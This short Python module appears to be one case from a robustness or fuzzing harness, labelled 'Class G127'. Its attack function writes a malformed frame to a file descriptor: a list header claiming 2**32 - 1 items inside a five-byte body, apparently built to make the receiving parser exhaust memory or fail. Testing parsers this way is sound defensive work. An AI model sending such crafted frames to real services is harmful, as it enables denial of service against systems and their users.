"""Answers with a list of 2**32 - 1 items, in a frame of five bytes. Class G127."""

import os
import struct

BODY = b"l" + struct.pack("<I", 0xFFFFFFFF)


def attack(bait):
    os.write(4, struct.pack("<IBI", len(BODY), 6, 2) + BODY)
    return 1.0
